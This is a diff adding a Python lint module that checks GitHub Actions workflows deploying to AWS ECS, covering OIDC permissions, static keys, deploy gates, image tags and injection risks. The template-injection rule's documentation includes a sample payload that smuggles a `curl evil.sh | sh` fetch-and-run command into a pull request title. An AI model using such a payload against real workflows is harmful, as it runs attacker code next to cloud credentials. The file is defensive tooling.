@@ -1,0 +1,1361 @@
+"""GitHub Actions workflows: the job that assumes the role and deploys.
+
+Every rule reads the workflow through `lint/workflow_model.py` (triggers,
+effective permissions, matrix rows, steps, role uses, deploys, tests, step
+outputs) and the `run:` scripts through `lint/shell.py`. Jobs switched off
+with `if: false` are skipped (they never run), except by
+`workflow-action-unpinned`.
+"""
+from __future__ import annotations
+
+import re
+
+from ecs_lint import workflow_model as wm
+from ecs_lint.model import Problem
+from ecs_lint.registry import check, rule
+from ecs_lint.shell import aws_operation, is_aws
+
+ID_TOKEN_MISSING = rule(
+    "workflow-id-token-missing", "error",
+    "A job assumes an AWS role through OIDC but its permissions lack `id-token: write`.",
+    docs="""
+    ## What it does
+    Finds jobs that assume a role through GitHub's OIDC token
+    (`aws-actions/configure-aws-credentials` with `role-to-assume` and no access
+    keys, any `role-to-assume` input of a wrapper action, or
+    `aws sts assume-role-with-web-identity` in a script) whose effective
+    permissions do not grant `id-token: write`. The effective permissions are the
+    job's `permissions` block, else the workflow's; `write-all` grants it,
+    `read-all` and `{}` do not, and without any block GitHub's default token has
+    no `id-token` permission at all (permissive or restricted).
+
+    A reusable workflow (`on: workflow_call`) without any permissions block
+    inherits the caller's, which this file cannot show: it is not reported. A
+    job calling a local reusable workflow (`uses: ./.github/workflows/x.yml`)
+    whose jobs assume a role through OIDC is reported when the calling job does
+    not grant `id-token: write` (a called workflow cannot get more than its
+    caller).
+
+    ## Why is this bad?
+    Without `id-token: write` the runner gets no token request URL, so
+    `configure-aws-credentials` fails ("Could not load credentials") and the
+    deploy never starts. Declaring a job block also drops every scope it does
+    not list, so adding `permissions: {contents: read}` to a job silently
+    removes the workflow's `id-token: write` for it.
+
+    ## Example
+    ```yaml
+    permissions:
+      contents: read
+    jobs:
+      deploy:
+        steps:
+          - uses: aws-actions/configure-aws-credentials@v4
+            with:
+              role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
+              aws-region: eu-west-1
+    ```
+
+    Use instead:
+    ```yaml
+    jobs:
+      deploy:
+        permissions:
+          contents: read
+          id-token: write
+    ```
+    """)
+
+ID_TOKEN_TOO_BROAD = rule(
+    "workflow-id-token-too-broad", "info",
+    "`id-token: write` granted at workflow level where some jobs do not assume a role.",
+    docs="""
+    ## What it does
+    Reports a workflow-level `id-token: write` (or `write-all`) when some job that
+    inherits it (no job block of its own) does not assume an AWS role. Jobs that
+    call a reusable workflow are counted as needing it.
+
+    ## Why is this bad?
+    Every job that can mint an OIDC token can ask any cloud that trusts the
+    repository for credentials. A test job running third-party code does not
+    need that power.
+
+    ## Example
+    ```yaml
+    permissions:
+      id-token: write
+    jobs:
+      test: {runs-on: ubuntu-latest, steps: [{run: pytest}]}
+      deploy: ...
+    ```
+
+    Use instead:
+    ```yaml
+    permissions:
+      contents: read
+    jobs:
+      deploy:
+        permissions: {contents: read, id-token: write}
+    ```
+    """)
+
+STATIC_KEYS = rule(
+    "workflow-static-aws-keys", "error",
+    "Long-lived AWS access keys are passed to the workflow.",
+    docs="""
+    ## What it does
+    Finds long-lived access keys: the `aws-access-key-id`/`aws-secret-access-key`
+    inputs of any action, `AWS_ACCESS_KEY_ID`/`AWS_SECRET_ACCESS_KEY` in a
+    workflow, job or step `env`, and `aws configure set aws_access_key_id ...` or
+    `export AWS_ACCESS_KEY_ID=...` in scripts, when the value comes from
+    `secrets`, `vars` or a literal. Values from step outputs (credentials minted
+    at run time, e.g. `output-credentials: true`) are not reported.
+
+    ## Why is this bad?
+    An IAM user key never expires: leaked once (a log, a fork, a compromised
+    action), it works until someone notices and rotates it. OIDC gives each run
+    credentials that expire within the hour and can be limited to one branch or
+    environment.
+
+    ## Example
+    ```yaml
+    - uses: aws-actions/configure-aws-credentials@v4
+      with:
+        aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}
+        aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
+        aws-region: us-east-1
+    ```
+
+    Use instead:
+    ```yaml
+    permissions: {id-token: write, contents: read}
+    steps:
+      - uses: aws-actions/configure-aws-credentials@v4
+        with:
+          role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
+          aws-region: us-east-1
+    ```
+    """)
+
+DEPLOY_NO_ENVIRONMENT = rule(
+    "workflow-deploy-no-environment", "warning",
+    "A job that deploys has no `environment`.",
+    docs="""
+    ## What it does
+    Finds jobs that deploy (the `amazon-ecs-deploy-task-definition` action, a
+    CodeDeploy action, or `aws ecs update-service | register-task-definition |
+    run-task | create-service` / `aws deploy create-deployment` in a script)
+    without an `environment` (a string or `{name, url}`; an empty string is
+    none).
+
+    ## Why is this bad?
+    Without an environment there is no required reviewer, no wait timer, no
+    branch restriction, no separation of secrets, and the OIDC `sub` is the
+    branch form, so the trust policy cannot tell a production deploy from any
+    other run on that branch.
+
+    ## Example
+    ```yaml
+    jobs:
+      deploy:
+        runs-on: ubuntu-latest
+        steps: [...]
+    ```
+
+    Use instead:
+    ```yaml
+    jobs:
+      deploy:
+        runs-on: ubuntu-latest
+        environment: production
+    ```
+    """)
+
+DEPLOY_NO_TEST_GATE = rule(
+    "workflow-deploy-no-test-gate", "warning",
+    "A deploying job does not depend, directly or through `needs`, on a job that runs tests.",
+    docs="""
+    ## What it does
+    Follows `needs` transitively from every deploying job and looks for a job
+    that runs tests: pytest, `python -m unittest`, tox/nox, `npm|yarn|pnpm|bun
+    test` (and `run test*`), `go test`, `make test|check`, `cargo test`,
+    `mvn test|verify`, `gradle test|check`, rspec, jest, vitest, `dotnet test`,
+    `manage.py test`, and the like, also inside `docker run`/`docker compose run`,
+    test scripts (`./scripts/run-tests.sh`), actions whose path names tests, and
+    jobs whose id or name says `test`. Test steps that run in the deploying job
+    itself before the deploy also count.
+
+    It stays silent where the gate may live elsewhere: a job in the chain that
+    calls a reusable workflow it cannot read, a reusable workflow
+    (`workflow_call`) or a workflow started by `workflow_run`.
+
+    ## Why is this bad?
+    A push that breaks the tests still reaches production; the test job runs
+    beside the deploy instead of before it.
+
+    ## Example
+    ```yaml
+    jobs:
+      test: {steps: [{run: pytest}]}
+      deploy: {environment: production, steps: [...]}
+    ```
+
+    Use instead:
+    ```yaml
+    jobs:
+      test: {steps: [{run: pytest}]}
+      deploy: {needs: test, environment: production, steps: [...]}
+    ```
+    """)
+
+IMAGE_LATEST = rule(
+    "workflow-image-latest", "warning",
+    "The image that gets deployed is tagged `:latest` or untagged instead of a commit SHA or digest.",
+    docs="""
+    ## What it does
+    Finds the image a deploying job deploys and follows it to where its tag is
+    written: the `image` input of `amazon-ecs-render-task-definition`, `jq --arg`
+    values that set an image before `aws ecs register-task-definition`, or, when
+    the job deploys through the CLI without either (e.g. `update-service
+    --force-new-deployment`), the images it pushes. Values are followed through
+    `env`, `${{ steps.ID.outputs.N }}` written to `$GITHUB_OUTPUT` (or
+    `::set-output`), job outputs across `needs`, shell variables and
+    `$GITHUB_ENV`. Tags and pushes come from `docker build/tag/push`,
+    `docker buildx build --push` and `docker/build-push-action`.
+
+    It reports `:latest` and images with no tag. A tag built from the commit
+    (`${{ github.sha }}`, `$GITHUB_SHA`, `${GITHUB_SHA::7}`, a variable named
+    like a SHA) or a digest (`@sha256:`) is pinned; pushing an extra `:latest`
+    beside the deployed SHA tag is fine. Other mutable tags (`v1`, a branch name)
+    and values it cannot follow are not reported.
+
+    ## Why is this bad?
+    `:latest` says nothing about which commit runs, ECS may pull a different
+    image when it replaces a task, and a rollback to the previous task
+    definition brings back the same `:latest`.
+
+    ## Example
+    ```yaml
+    run: |
+      docker build -t $REGISTRY/app:latest .
+      docker push $REGISTRY/app:latest
+      echo "image=$REGISTRY/app:latest" >> $GITHUB_OUTPUT
+    ```
+
+    Use instead:
+    ```yaml
+    env:
+      TAG: ${{ github.sha }}
+    run: |
+      docker build -t $REGISTRY/app:$TAG .
+      docker push $REGISTRY/app:$TAG
+      echo "image=$REGISTRY/app:$TAG" >> $GITHUB_OUTPUT
+    ```
+    """)
+
+STABILITY_WAIT_OFF = rule(
+    "workflow-stability-wait-off", "warning",
+    "`amazon-ecs-deploy-task-definition` updates a service without `wait-for-service-stability: true`.",
+    docs="""
+    ## What it does
+    Checks every `aws-actions/amazon-ecs-deploy-task-definition` step that
+    updates a service (`service:` is set) for `wait-for-service-stability: true`.
+    An expression value is not judged.
+
+    ## Why is this bad?
+    Without the wait the step succeeds as soon as the service is updated: a
+    deployment that never becomes healthy, or that the circuit breaker rolls
+    back, still shows a green workflow.
+
+    ## Example
+    ```yaml
+    - uses: aws-actions/amazon-ecs-deploy-task-definition@v2
+      with:
+        task-definition: ${{ steps.render.outputs.task-definition }}
+        service: api
+        cluster: prod
+    ```
+
+    Use instead:
+    ```yaml
+        wait-for-service-stability: true
+        wait-for-minutes: 15
+    ```
+    """)
+
+STABILITY_WAIT_SHORT = rule(
+    "workflow-stability-wait-short", "warning",
+    "`wait-for-minutes` is below 15 minutes.",
+    options={"min-minutes": 15},
+    docs="""
+    ## What it does
+    Reports `wait-for-minutes` below `min-minutes` (default 15) on an
+    `amazon-ecs-deploy-task-definition` step that waits for stability. Without
+    `wait-for-minutes` the action waits 30 minutes, which is fine.
+
+    ## Why is this bad?
+    A rolling deploy of a slow-booting service, with a health-check grace
+    period, easily takes more than five minutes: the step times out and fails a
+    deploy that was going to succeed (the article's pitfall 7).
+
+    ## Example
+    ```yaml
+    wait-for-service-stability: true
+    wait-for-minutes: 5
+    ```
+
+    Use instead:
+    ```yaml
+    wait-for-service-stability: true
+    wait-for-minutes: 15
+    ```
+    """)
+
+MIGRATION_UNCHECKED = rule(
+    "workflow-migration-unchecked", "error",
+    "`aws ecs run-task` is started but the job does not wait for it and fail on a non-zero exit code.",
+    docs="""
+    ## What it does
+    For each `aws ecs run-task` in a `run:` script, reads the rest of the script
+    and the later steps of the job and asks two questions:
+
+    - **Does it wait?** `aws ecs wait tasks-stopped`, or `aws ecs describe-tasks`
+      polled inside a `while`/`until`/`for` loop.
+    - **Does it check the exit code?** An `aws ecs describe-tasks` whose query,
+      or a command reading its output (a pipe, a `$(...)` capture, a variable
+      holding it, e.g. `jq '.tasks[0].containers[0].exitCode'`), mentions
+      `exitCode`, followed by a way to fail: `exit` with a non-zero number or a
+      variable, `false`, a bare `[ ... ]`/`[[ ... ]]`/`test` on that value (run
+      scripts use `bash -e`), or `jq -e`.
+
+    The article's pattern (run-task, `wait tasks-stopped`, `describe-tasks
+    --query 'tasks[0].containers[0].exitCode'`, `if [ "$EXIT" != "0" ]; then
+    exit 1; fi`) passes, and so do `[ "$EXIT" = 0 ] || exit 1`, `jq -e`, and a
+    loop over the containers' exit codes. `run-task: true` on the deploy action
+    passes with `wait-for-task-stopped: true` (the action then fails on a
+    non-zero exit code). Checks written in another language (a Python script)
+    are not recognised.
+
+    ## Why is this bad?
+    `run-task` returns as soon as the task is scheduled. If nothing waits and
+    reads the container's exit code, a failed migration is followed by a deploy
+    of code that expects the new schema (the article's pitfall 2).
+
+    ## Example
+    ```yaml
+    run: |
+      TASK=$(aws ecs run-task --cluster prod --task-definition migrate \\
+        --query 'tasks[0].taskArn' --output text)
+      aws ecs wait tasks-stopped --cluster prod --tasks "$TASK"
+    ```
+
+    Use instead:
+    ```yaml
+    run: |
+      TASK=$(aws ecs run-task --cluster prod --task-definition migrate \\
+        --query 'tasks[0].taskArn' --output text)
+      aws ecs wait tasks-stopped --cluster prod --tasks "$TASK"
+      EXIT=$(aws ecs describe-tasks --cluster prod --tasks "$TASK" \\
+        --query 'tasks[0].containers[0].exitCode' --output text)
+      if [ "$EXIT" != "0" ]; then exit 1; fi
+    ```
+    """)
+
+UNTRUSTED_TRIGGER = rule(
+    "workflow-oidc-untrusted-trigger", "error",
+    "A job with `id-token: write` that assumes a role runs on `pull_request_target` or `workflow_run`.",
+    docs="""
+    ## What it does
+    Finds jobs that assume a role through OIDC with `id-token: write` in a
+    workflow triggered by `pull_request_target` or `workflow_run` (after
+    narrowing by a job `if:` that tests `github.event_name`).
+
+    ## Why is this bad?
+    Both events run in the base repository's trusted context for changes
+    anyone can propose: a fork's pull request (or a fork's CI run, whose branch
+    may be called `main`). Checking out or building that code with cloud
+    credentials in the job hands them to the author of the pull request.
+
+    ## Example
+    ```yaml
+    on: pull_request_target
+    jobs:
+      preview:
+        permissions: {id-token: write}
+        steps:
+          - uses: actions/checkout@v4
+            with: {ref: "${{ github.event.pull_request.head.sha }}"}
+          - uses: aws-actions/configure-aws-credentials@v4
+    ```
+
+    Use instead:
+    ```yaml
+    on: pull_request   # no secrets and no id-token for forks
+    ```
+    """)
+
+OIDC_ON_PULL_REQUEST = rule(
+    "workflow-oidc-on-pull-request", "warning",
+    "A job that assumes a deploy role runs on `pull_request`.",
+    docs="""
+    ## What it does
+    Finds jobs that assume a role through OIDC in a workflow triggered by
+    `pull_request` (after narrowing by a job `if:` that tests
+    `github.event_name`). Roles whose ARN or name says they are read-only
+    (`readonly`, `read-only`, `-ro`, `plan`) are not reported.
+
+    ## Why is this bad?
+    Any branch pushed to the repository can open a pull request whose workflow
+    changes are used as written: the role is then available to unreviewed code.
+    Deploy roles belong to `push` on protected branches or to environments with
+    reviewers.
+
+    ## Example
+    ```yaml
+    on: pull_request
+    jobs:
+      deploy:
+        steps:
+          - uses: aws-actions/configure-aws-credentials@v4
+            with: {role-to-assume: "${{ vars.DEPLOY_ROLE_ARN }}", aws-region: us-east-1}
+    ```
+
+    Use instead:
+    ```yaml
+    on:
+      push:
+        branches: [main]
+    ```
+    """)
+
+REGION_MISSING = rule(
+    "workflow-aws-region-missing", "error",
+    "`configure-aws-credentials` without its required `aws-region` input.",
+    docs="""
+    ## What it does
+    Reports `aws-actions/configure-aws-credentials` steps without a non-empty
+    `aws-region` input. An `AWS_REGION` or `AWS_DEFAULT_REGION` environment
+    variable does not count.
+
+    ## Why is this bad?
+    `aws-region` is a required input: the step fails before any call to AWS.
+
+    ## Example
+    ```yaml
+    env: {AWS_REGION: us-east-1}
+    steps:
+      - uses: aws-actions/configure-aws-credentials@v4
+        with: {role-to-assume: "${{ vars.DEPLOY_ROLE_ARN }}"}
+    ```
+
+    Use instead:
+    ```yaml
+      - uses: aws-actions/configure-aws-credentials@v4
+        with:
+          role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
+          aws-region: ${{ env.AWS_REGION }}
+    ```
+    """)
+
+ACCOUNT_ID_HARDCODED = rule(
+    "workflow-account-id-hardcoded", "info",
+    "A role ARN with a literal account id instead of a `vars` reference.",
+    docs="""
+    ## What it does
+    Reports a `role-to-assume` whose ARN, after following `env` and matrix
+    values, holds a literal 12-digit account id.
+
+    ## Why is this bad?
+    Account ids and role names in the workflow tie the file to one account:
+    staging and production copies drift, and moving the role means editing
+    every workflow. `vars` keep them in one place per environment.
+
+    ## Example
+    ```yaml
+    role-to-assume: arn:aws:iam::123456789012:role/deploy
+    ```
+
+    Use instead:
+    ```yaml
+    role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
+    ```
+    """)
+
+APP_SECRET_IN_GITHUB = rule(
+    "workflow-app-secret-in-github", "info",
+    "Application secrets come from GitHub secrets into the deploy instead of AWS Secrets Manager.",
+    docs="""
+    ## What it does
+    In jobs that deploy or assume a role, finds `secrets.NAME` references whose
+    name looks like an application secret (password, database URL, API key,
+    secret key, JWT, client secret, private key, SMTP, third-party service keys)
+    in `env`, action inputs and `run:` scripts. Secrets the CI itself needs
+    (AWS, GitHub, Slack, Sentry auth, Docker, registry, role or account
+    identifiers) are not reported.
+
+    ## Why is this bad?
+    A secret baked into an image or a task definition `environment` is visible
+    to anyone who can read the image or describe the task definition, and
+    rotating it means a new deploy. ECS injects `secrets` from Secrets Manager or
+    SSM at task start instead.
+
+    ## Example
+    ```yaml
+    env:
+      DATABASE_PASSWORD: ${{ secrets.DATABASE_PASSWORD }}
+    run: docker build --build-arg DATABASE_PASSWORD .
+    ```
+
+    Use instead:
+    ```json
+    "secrets": [{"name": "DATABASE_PASSWORD",
+                 "valueFrom": "arn:aws:secretsmanager:...:secret:db-password"}]
+    ```
+    """)
+
+TEMPLATE_INJECTION = rule(
+    "workflow-template-injection", "error",
+    "A job that assumes an AWS role expands attacker-controllable context inside a `run:` script.",
+    docs="""
+    ## What it does
+    In jobs that assume an AWS role, finds `${{ ... }}` expressions in `run:`
+    scripts that read text an outsider controls: pull request, issue,
+    discussion, comment and review titles and bodies, `github.head_ref` and the
+    pull request's head ref/label, commit messages and author names and emails
+    (`head_commit`, `commits`), wiki page names and `workflow_run` branches and
+    titles. Expressions passed through `env:` and read as `"$VAR"` are safe and
+    not reported. `workflow_dispatch` inputs (written by people with write
+    access) are not reported.
+
+    ## Why is this bad?
+    GitHub pastes the expression's value into the script before the shell runs
+    it: a title like `x"; curl evil.sh | sh; "` runs as code, with the AWS
+    credentials of the job in its environment.
+
+    ## Example
+    ```yaml
+    run: echo "Deploying ${{ github.event.pull_request.title }}"
+    ```
+
+    Use instead:
+    ```yaml
+    env:
+      TITLE: ${{ github.event.pull_request.title }}
+    run: echo "Deploying $TITLE"
+    ```
+    """)
+
+ACTION_UNPINNED = rule(
+    "workflow-action-unpinned", "info",
+    "A third-party action referenced by a moving tag or branch rather than a full commit SHA.",
+    docs="""
+    ## What it does
+    Reports `uses: OWNER/REPO[/PATH]@REF` (steps and reusable workflow calls)
+    where OWNER is not GitHub's own (`actions`, `github`) and REF is not a
+    40-character commit SHA. Local actions (`./...`) and `docker://` images are
+    not reported.
+
+    ## Why is this bad?
+    A tag can be moved by whoever controls the action's repository: the code
+    that runs next to your AWS credentials can change without any change in
+    your repository (tj-actions/changed-files, March 2025).
+
+    ## Example
+    ```yaml
+    - uses: aws-actions/configure-aws-credentials@v4
+    ```
+
+    Use instead:
+    ```yaml
+    - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502 # v4
+    ```
+    """)
+
+
+# ---------------------------------------------------------------------------
+
+
+def _workflow(doc):
+    wf = doc.context.get("_workflow")
+    if wf is None:
+        wf = doc.context["_workflow"] = wm.read_workflow(doc.data)
+    return wf
+
+
+def _live_jobs(wf):
+    return [j for j in wf.jobs.values() if not j.disabled]
+
+
+def _role_text(ru):
+    r = ru.role_to_assume
+    return f"'{r}'" if isinstance(r, str) else "a role"
+
+
+def _job_key(job):
+    return job.path
+
+
+# --- permissions ------------------------------------------------------------
+
+
+@check(kinds=("workflow",), rules=(ID_TOKEN_MISSING.id, ID_TOKEN_TOO_BROAD.id))
+def id_token(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        oidc = [ru for ru in job.role_uses() if ru.oidc]
+        if not oidc or job.id_token_write:
+            continue
+        if job.permissions_source is None and wf.is_reusable:
+            continue  # inherits the caller's permissions
+        ru = oidc[0]
+        if job.permissions_source == "job":
+            where, path = "the job's permissions block", job.permissions_path
+        elif job.permissions_source == "workflow":
+            where, path = "the workflow's permissions block (the job has none)", \
+                job.permissions_path
+        else:
+            where, path = "GitHub's default token permissions (no permissions block)", \
+                job.path
+        yield Problem(ID_TOKEN_MISSING.id, path,
+                      f"job '{job.id}' assumes {_role_text(ru)} through OIDC but {where} "
+                      "does not grant `id-token: write`: no OIDC token is issued and "
+                      "configure-aws-credentials fails",
+                      help="add `permissions: {id-token: write, contents: read}` to the job",
+                      key=True)
+    for job in _live_jobs(wf):
+        if job.uses is None or job.id_token_write:
+            continue
+        if job.permissions_source is None and wf.is_reusable:
+            continue
+        callee = _local_workflow(job, ctx)
+        users = [j.id for j in callee.jobs.values() if not j.disabled
+                 and any(ru.oidc for ru in j.role_uses())] if callee else []
+        if users:
+            path = job.permissions_path if job.permissions_source == "job" else job.path
+            yield Problem(ID_TOKEN_MISSING.id, path,
+                          f"job '{job.id}' calls {job.uses}, whose job '{users[0]}' assumes a "
+                          "role through OIDC, but does not grant `id-token: write`: a called "
+                          "workflow gets no more permissions than its caller",
+                          help="add `id-token: write` to the calling job's permissions",
+                          key=True)
+    if grants_workflow_id_token(wf):
+        idle = [j.id for j in _live_jobs(wf) if j.permissions_source == "workflow"
+                and j.uses is None and not any(ru.oidc for ru in j.role_uses())]
+        if idle:
+            perms = wf.data.get("permissions")
+            path = ("permissions", "id-token") if isinstance(perms, dict) else ("permissions",)
+            yield Problem(ID_TOKEN_TOO_BROAD.id, path,
+                          "`id-token: write` is granted to every job, but "
+                          + ", ".join(f"'{j}'" for j in idle)
+                          + (" does" if len(idle) == 1 else " do")
+                          + " not assume an AWS role: they can mint OIDC tokens they do not need",
+                          help="grant `id-token: write` only in the permissions of the jobs "
+                               "that assume a role", key=True)
+
+
+def grants_workflow_id_token(wf):
+    return wm.grants_id_token(wf.permissions)
+
+
+# --- static keys --------------------------------------------------------------
+
+_KEY_INPUTS = ("aws-access-key-id", "aws-secret-access-key")
+_KEY_ENV = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")
+_SECRET_OR_VAR = re.compile(r"\b(secrets|vars)\s*(?:\.\s*([A-Za-z0-9_-]+)|\[)")
+_RUNTIME = re.compile(r"\b(steps|needs|job|runner)\.")
+
+
+def _long_lived(value, job, step):
+    """How a key value is long-lived ('secrets.X', 'a literal'), or None."""
+    if isinstance(value, (int, float)) and not isinstance(value, bool):
+        value = str(value)
+    if not isinstance(value, str) or not value.strip():
+        return None
+    v = wm.expand(value, job, step)
+    m = _SECRET_OR_VAR.search(v)
+    if m:
+        return f"{m.group(1)}.{m.group(2)}" if m.group(2) else m.group(1)
+    if "${{" in v or _RUNTIME.search(v) or "$" in v:
+        return None
+    return "a literal"
+
+
+def _first_key(container, names):
+    for n in names:
+        if n in container:
+            return n
+    return None
+
+
+@check(kinds=("workflow",), rules=(STATIC_KEYS.id,))
+def static_keys(doc, ctx):
+    wf = _workflow(doc)
+    # workflow env
+    yield from _env_keys(wf.env, ("env",), None, None, "the workflow env")
+    for job in _live_jobs(wf):
+        yield from _env_keys(job.env, job.path + ("env",), job, None, f"job '{job.id}' env")
+        if isinstance(job.secrets, dict):
+            name = _first_key(job.secrets, _KEY_ENV + tuple(k.upper().replace("-", "_")
+                                                            for k in _KEY_INPUTS))
+            src = _long_lived(job.secrets.get(name), job, None) if name else None
+            if src:
+                yield Problem(STATIC_KEYS.id, job.path + ("secrets", name),
+                              f"job '{job.id}' passes a long-lived access key ({src}) to a "
+                              "reusable workflow", help=_KEYS_HELP, key=True)
+        for st in job.steps:
+            name = _first_key(st.with_, _KEY_INPUTS)
+            if name:
+                src = _long_lived(st.with_.get(name), job, st)
+                other = "aws-secret-access-key" if name == "aws-access-key-id" else None
+                if src is None and other:
+                    src = _long_lived(st.with_.get(other), job, st)
+                if src:
+                    yield Problem(STATIC_KEYS.id, st.path + ("with", name),
+                                  f"`{name}` takes a long-lived IAM user key ({src}): it "
+                                  "never expires and works wherever it leaks",
+                                  help=_KEYS_HELP, key=True)
+            yield from _env_keys(st.env, st.path + ("env",), job, st, "the step env")
+            for c in wm.commands(st):
+                src = _script_key(c, job, st)
+                if src:
+                    yield Problem(STATIC_KEYS.id, st.run_path,
+                                  f"the script sets a long-lived access key ({src})",
+                                  help=_KEYS_HELP, span=wm.script_span(doc, st, c.line))
+                    break
+
+
+_KEYS_HELP = ("assume a role through OIDC: `permissions: {id-token: write}` and "
+              "configure-aws-credentials with `role-to-assume`; then delete the IAM user key")
+
+
+def _env_keys(env, path, job, step, where):
+    name = _first_key(env, _KEY_ENV)
+    if not name:
+        return
+    src = _long_lived(env.get(name), job, step)
+    if src is None:
+        other = _first_key(env, tuple(k for k in _KEY_ENV if k != name))
+        src = _long_lived(env.get(other), job, step) if other else None
+    if src:
+        yield Problem(STATIC_KEYS.id, path + (name,),
+                      f"{where} sets {name} from {src}: a long-lived IAM user key",
+                      help=_KEYS_HELP, key=True)
+
+
+def _script_key(c, job, step):
+    if c.argv[:3] == ["aws", "configure", "set"] and len(c.argv) > 4 \
+            and c.argv[3].lower() in ("aws_access_key_id", "aws_secret_access_key"):
+        return _long_lived(c.argv[4], job, step) if "${{" in c.argv[4] or \
+            not c.argv[4].startswith("$") else None
+    for k in _KEY_ENV:
+        v = c.assigns.get(k)
+        if v is not None and ("${{" in v or re.match(r"^(AKIA|ASIA)[A-Z0-9]{16}$", v)):
+            return _long_lived(v, job, step)
+    return None
+
+
+# --- deploy gates -----------------------------------------------------------
+
+
+@check(kinds=("workflow",), rules=(DEPLOY_NO_ENVIRONMENT.id, DEPLOY_NO_TEST_GATE.id))
+def deploy_gates(doc, ctx):
+    wf = _workflow(doc)
+    for job in _live_jobs(wf):
+        deploys = job.deploys()
+        if not deploys:
+            continue
+        what = _deploy_words(deploys)
+        if job.environment is None:
+            yield Problem(DEPLOY_NO_ENVIRONMENT.id, job.path,
+                          f"job '{job.id}' deploys ({what}) without an `environment`: no "
+                          "reviewers, no branch rule, and the OIDC sub cannot tell this deploy "
+                          "from any other run of the branch",
+                          help="add `environment: production` (with protection rules) to the job",
+                          key=True)
+        if not _test_gated(wf, job, deploys, ctx):
+            yield Problem(DEPLOY_NO_TEST_GATE.id, job.path,
+                          f"job '{job.id}' deploys ({what}) but no job it `needs` runs tests: "
+                          "a commit that fails its tests still ships",
+                          help="add `needs: test` (a job that runs the test suite)", key=True)
+
+
+def _deploy_words(deploys):
+    seen = []
+    for d in deploys:
+        w = {"ecs-deploy-action": "amazon-ecs-deploy-task-definition",
+             "codedeploy": "CodeDeploy"}.get(d.kind, f"aws ecs {d.kind}")
+        if w not in seen:
+            seen.append(w)
+    return ", ".join(seen)
+
+
+def _test_gated(wf, job, deploys, ctx):
+    if {"workflow_call", "workflow_run"} & set(wf.triggers):
+        return True
+    first = min(d.step.index for d in deploys)
+    if any(wm.step_runs_tests(st) for st in job.steps[:first + 1]):
+        return True
+    for jid in wm.needs_closure(wf, job.id):
+        other = wf.jobs[jid]
+        if other.runs_tests() or _named_test(other):
+            return True
+        if other.uses is not None:
+            verdict = _reusable_runs_tests(other, ctx)
+            if verdict is not False:
+                return True
+    if any(n not in wf.jobs for n in job.needs):
+        return True  # a `needs` we cannot see: don't guess
+    return False
+
+
+def _reusable_runs_tests(job, ctx):
+    """True/False for a local reusable workflow we can read; None when unknown."""
+    other = _local_workflow(job, ctx)
+    if other is None:
+        return None
+    return any(j.runs_tests() or j.uses is not None or _named_test(j)
+               for j in other.jobs.values())
+
+
+def _named_test(job):
+    return any(isinstance(n, str) and re.search(r"(?:^|[^a-z])tests?(?:[^a-z]|$)", n, re.I)
+               for n in (job.id, job.name))
+
+
+def _local_workflow(job, ctx):
+    """The workflow a job calls with `uses: ./.github/workflows/x.yml`, when readable."""
+    uses = job.uses or ""
+    if not uses.startswith("./"):
+        return None
+    import os
+
+    from ecs_lint.loader import LoadError, decode, load_text
+    path = os.path.join(ctx.repo_root or ".", uses[2:])
+    try:
+        if os.path.getsize(path) > 2_000_000:
+            return None
+        with open(path, "rb") as f:
+            text = decode(f.read())
+        loaded = load_text(text, "yaml")
+    except (OSError, LoadError):
+        return None
+    if not loaded or not isinstance(loaded[0].data, dict):
+        return None
+    return wm.read_workflow(loaded[0].data)
+
+
+# --- images -------------------------------------------------------------------
+
+_SHA_HINT = re.compile(r"github\.sha|GITHUB_SHA|head\.sha|head_sha|head_commit\.id|"
+                       r"rev-parse|\bsha\b|sha_|_sha|sha[0-9]*$|commit", re.I)
+
+
+def _split_tag(ref: str):
+    """(name, tag or None, digest or None) of an image reference with opaque ${...} parts."""
+    depth, i, cut = 0, 0, []
+    while i < len(ref):
+        if ref.startswith("${{", i):
+            j = ref.find("}}", i)
+            i = len(ref) if j < 0 else j + 2
+            continue
+        if ref.startswith("${", i):
+            j = ref.find("}", i)
+            i = len(ref) if j < 0 else j + 1
+            continue
+        if ref.startswith("$(", i):
+            depth += 1
+        elif ref[i] == ")" and depth:
+            depth -= 1
+        cut.append((i, ref[i]) if depth == 0 else (i, ""))
+        i += 1
+    digest = None
+    at = [p for p, ch in cut if ch == "@"]
+    if at:
+        digest = ref[at[-1] + 1:]
+        ref = ref[:at[-1]]
+        cut = [(p, ch) for p, ch in cut if p < at[-1]]
+    slashes = [p for p, ch in cut if ch == "/"]
+    start = slashes[-1] + 1 if slashes else 0
+    colons = [p for p, ch in cut if ch == ":" and p >= start]
+    if colons:
+        return ref[:colons[0]], ref[colons[0] + 1:], digest
+    return ref, None, digest
+
+
+def image_pin(ref) -> str:
+    """digest | sha | latest | untagged | other | unknown."""
+    if not isinstance(ref, str) or not ref.strip():
+        return "unknown"
+    ref = ref.strip().strip('"').strip("'")
+    name, tag, digest = _split_tag(ref)
+    if digest:
+        return "digest" if digest.startswith("sha256:") or "${{" in digest or "$" in digest \
+            else "other"
+    if tag is None:
+        last = name.rsplit("/", 1)[-1]
+        if last.startswith("$") and not re.search(r"repo|name", last, re.I):
+            return "unknown"  # a variable that may hold the whole reference
+        if "${{" in last and not re.search(r"repo|name", last, re.I):
+            return "unknown"
+        return "untagged"
+    if tag == "latest":
+        return "latest"
+    if _SHA_HINT.search(tag):
+        return "sha"
+    return "other" if "$" not in tag else "unknown"
+
+
+def _pushes(job, github):
+    """[(resolved ref, step, path, line)] of the images a job pushes."""
+    out = []
+    for st in job.steps:
+        if st.uses and st.uses.startswith("docker/build-push-action"):
+            if wm._truthy(st.with_.get("push")) is True:
+                tags = st.with_.get("tags")
+                if isinstance(tags, str):
+                    for t in re.split(r"[\n,]", tags):
+                        if t.strip():
+                            out.append((wm.resolve(t.strip(), job, st, github=github), st,
+                                        st.path + ("with", "tags"), None))
+        built = {}
+        for c in wm.commands(st):
+            argv = c.argv
+            if argv[:1] != ["docker"]:
+                continue
+            words = argv[1:]
+            if words[:1] == ["image"]:
+                words = words[1:]
+            if words[:1] == ["push"]:
